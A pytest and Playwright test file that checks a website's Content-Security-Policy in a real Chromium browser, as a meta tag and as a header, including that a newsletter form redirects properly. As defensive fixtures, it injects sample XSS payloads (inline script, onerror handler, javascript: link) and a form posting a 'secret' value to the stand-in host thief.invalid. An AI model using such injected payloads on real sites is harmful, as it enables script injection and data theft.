"""In a real browser the policy lets every page be what it is, and stops what was not written by us."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Playwright

from tests.browser.recording import Recorder, Sent
from tests.made_site import MadeSite

HOST = "evenhand.example"
META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n')
# Told by the browser itself, so that nothing depends on the words of its console.
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event => {
  window.violations.push(event.violatedDirective + " " + event.blockedURI + " " + event.sourceFile);
});
"""
INJECTED = """
<script>window.ran = "script"</script><img src="nowhere.png" alt="" onerror="window.ran = 'handler'">
<a id="way" href="javascript:void(window.ran='link')">Way</a>
<form id="thief" action="https://thief.invalid/" method="post"><input name="q" value="secret"><button>Go</button></form>
"""


@dataclass
class Guarded(Recorder):
    """The built site with its policy as header or as meta; providers answer by sending people on."""

    how: str = "meta"
    injected: str = ""
    redirects: dict[str, str] = field(default_factory=dict)

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        plain, guarded = super()._handler(), self

        class Handler(plain):  # type: ignore[misc,valid-type]
            def _answer(self) -> None:
                host = self.headers["Host"]
                if host not in guarded.redirects:
                    super()._answer()
                    return
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                kind = self.headers.get("Content-Type") or ""
                guarded.sent.append(Sent(self.command, f"https://{host}{self.path}", kind, body))
                self.send_response(303)
                self.send_header("Location", guarded.redirects[host])
                self.send_header("Content-Length", "0")
                self.end_headers()

            def end_headers(self) -> None:
                if guarded.how == "header" and self.headers["Host"] == HOST:
                    for name, value in guarded.headers().items():
                        self.send_header(name, value)
                super().end_headers()

        return Handler

    def headers(self) -> dict[str, str]:
        """What the built `_headers` says of every path."""
        lines = (self.site / "_headers").read_text().splitlines()[1:]
        return dict(line.strip().split(": ", 1) for line in lines)

    def page_at(self, path: str) -> tuple[int, str, bytes]:
        status, kind, content = super().page_at(path)
        if kind.startswith("text/html") and status == 200:
            text = content.decode().replace("</body>", f"{self.injected}</body>")
            content = (META.sub("", text) if self.how != "meta" else text).encode()
        return status, kind, content


@pytest.fixture(scope="module")
def guarded(shown: MadeSite, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
    recorder = Guarded(shown.site, HOST)
    server = recorder.start(tmp_path_factory.mktemp("certificate"))
    yield recorder
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def chromium(
    guarded: Guarded, playwright: Playwright, browser_type_launch_args: dict[str, object]
) -> Iterator[Browser]:
    arguments = [
        *browser_type_launch_args["args"],  # type: ignore[misc]
        f"--host-resolver-rules=MAP *.googleapis.com ~NOTFOUND, MAP * 127.0.0.1:{guarded.port}",
        "--disable-features=AutofillServerCommunication",
        "--ignore-certificate-errors",
    ]
    browser = playwright.chromium.launch(**{**browser_type_launch_args, "args": arguments})  # type: ignore[arg-type]
    yield browser
    browser.close()


@pytest.fixture(params=["meta", "header"])
def page(request: pytest.FixtureRequest, guarded: Guarded, chromium: Browser) -> Iterator[Page]:
    guarded.how, guarded.injected, guarded.redirects = request.param, "", {}
    guarded.sent.clear()
    context = chromium.new_context(ignore_https_errors=True)
    context.add_init_script(WATCH)
    yield context.new_page()
    context.close()


def addresses(site: Path) -> list[str]:
    return [f"/{path.relative_to(site).as_posix()}" for path in sorted(site.rglob("*.html"))]


def test_no_page_of_any_type_violates_its_policy(page: Page, shown: MadeSite) -> None:
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text))
    # A browser gives up an icon that it no longer needs; that is nobody's policy.
    page.on(
        "requestfailed",
        lambda request: told.append(request.url) if request.failure != "net::ERR_ABORTED" else None,
    )
    all_of_them = addresses(shown.site)
    assert len(all_of_them) > 25
    for address in all_of_them:
        moved = 'http-equiv="refresh"' in (shown.site / address[1:]).read_text(encoding="utf-8")
        page.goto(f"https://{HOST}{address}", wait_until="commit" if moved else "load")
        if moved:
            page.wait_for_url(re.compile(r"/responses/"))
            page.wait_for_load_state()
        assert page.evaluate("window.violations") == [], address
        assert page.evaluate("getComputedStyle(document.body).margin") == "0px"
    assert told == []


def until(page: Page, expression: str) -> None:
    """Waits for `expression`. Asked from outside each time: what Playwright would leave in the
    page to ask by itself is stopped by the very policy under test.
    """
    for _ in range(600):
        if page.evaluate(expression):
            return
        page.wait_for_timeout(50)
    pytest.fail(f"not within half a minute: {expression}")


def test_what_somebody_injected_does_not_run(page: Page, guarded: Guarded) -> None:
    guarded.injected = INJECTED
    page.goto(f"https://{HOST}/about/", wait_until="load")
    page.locator("#way").click(no_wait_after=True)
    until(page, "window.violations.length >= 3")
    assert page.evaluate("window.ran") is None


def test_the_same_runs_where_there_is_no_policy(page: Page, guarded: Guarded) -> None:
    guarded.injected, guarded.how = INJECTED, "neither"
    page.goto(f"https://{HOST}/about/", wait_until="load")
    until(page, "window.ran === 'handler'")
    page.locator("#way").click(no_wait_after=True)
    until(page, "window.ran === 'link'")
    assert page.evaluate("window.violations") == []


def test_a_form_to_a_host_that_nobody_declared_sends_nothing(page: Page, guarded: Guarded) -> None:
    guarded.injected = INJECTED
    page.goto(f"https://{HOST}/actions/newsletter/", wait_until="load")
    page.locator("#thief button").click(no_wait_after=True)
    until(page, "window.violations.some(one => one.startsWith('form-action'))")
    assert guarded.sent == []


def test_a_sign_up_arrives_and_its_sender_is_led_to_the_thank_you_page(
    page: Page, guarded: Guarded
) -> None:
    provider = "evenhand-demonstration.us0.list-manage.com"
    guarded.redirects = {
        provider: "https://mailchi.mp/almost-there",
        "mailchi.mp": f"https://{HOST}/thanks/",
    }
    page.goto(f"https://{HOST}/actions/newsletter/", wait_until="load")
    form = page.locator(f'form[action*="{provider}"]').first
    form.locator('input[type="email"]').fill("zoe@example.org")
    for box in form.locator("input[type=checkbox]").all():
        box.check()
    form.get_by_role("button").click()
    page.wait_for_url(f"https://{HOST}/thanks/")
    assert [urlsplit(one.address).netloc for one in guarded.sent] == [provider, "mailchi.mp"]


def test_a_provider_that_leads_on_to_a_host_nobody_declared_is_stopped_there(
    page: Page, guarded: Guarded
) -> None:
    provider = "evenhand-demonstration.us0.list-manage.com"
    guarded.redirects = {provider: "https://thief.invalid/"}
    page.goto(f"https://{HOST}/actions/newsletter/", wait_until="load")
    form = page.locator(f'form[action*="{provider}"]').first
    form.locator('input[type="email"]').fill("zoe@example.org")
    for box in form.locator("input[type=checkbox]").all():
        box.check()
    form.get_by_role("button").click(no_wait_after=True)
    until(page, "window.violations.some(one => one.startsWith('form-action'))")
    assert {urlsplit(one.address).netloc for one in guarded.sent} == {provider}
